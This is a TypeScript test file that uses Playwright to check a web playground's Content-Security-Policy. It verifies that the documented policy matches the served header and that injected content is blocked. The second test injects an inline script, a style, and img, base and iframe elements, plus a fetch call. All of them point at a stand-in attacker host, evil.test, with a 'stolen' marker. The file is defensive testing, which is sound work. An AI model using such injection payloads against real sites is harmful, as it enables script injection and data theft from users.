import { readFile } from 'node:fs/promises';

import type { Browser } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';

import { type RunningApp, startBuilt } from './apps.js';
import { openBrowser } from './browser.js';

// The tests of the playground check that pages work under the policy without an error.

let browser: Browser;
let playground: RunningApp;

beforeAll(async () => {
  [browser, playground] = await Promise.all([openBrowser(), startBuilt('playground')]);
});
afterAll(async () => {
  await browser.close();
  await playground.stop();
});

test('the policy in the docs is that of the playground', async () => {
  const text = await readFile('docs/security.md', 'utf8');
  const [, list = ''] = /const policy = \[([^]*?)\];/.exec(text) ?? [];
  const given = [...list.matchAll(/^ *["'](.+)["'],$/gm)].map(([, directive]) => directive);
  const { headers } = await fetch(playground.origin);
  expect(given.join('; ')).toBe(headers.get('content-security-policy'));
});

test('the policy in the docs blocks injected scripts and styles', async () => {
  const page = await browser.newPage();
  await page.goto(`${playground.origin}/counter`);
  const title = await page.title();
  const blocked = await page.evaluate(async () => {
    const directives: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      directives.push(effectiveDirective),
    );
    const add = (name: string, members: object) =>
      document.body.append(Object.assign(document.createElement(name), members));
    const script = document.createElement('script');
    script.append('document.title = "stolen"');
    document.body.append(script);
    add('style', { textContent: 'p { color: red }' });
    add('img', { src: 'https://evil.test/?stolen' });
    add('base', { href: 'https://evil.test/' });
    add('iframe', { src: 'https://evil.test/' });
    await fetch('https://evil.test/').catch(() => {});
    while (directives.length < 6) await new Promise(requestAnimationFrame);
    return directives;
  });
  expect(blocked.sort()).toEqual([
    'base-uri',
    'connect-src',
    'frame-src',
    'img-src',
    'require-trusted-types-for',
    'style-src-elem',
  ]);
  expect(await page.title()).toBe(title);
});
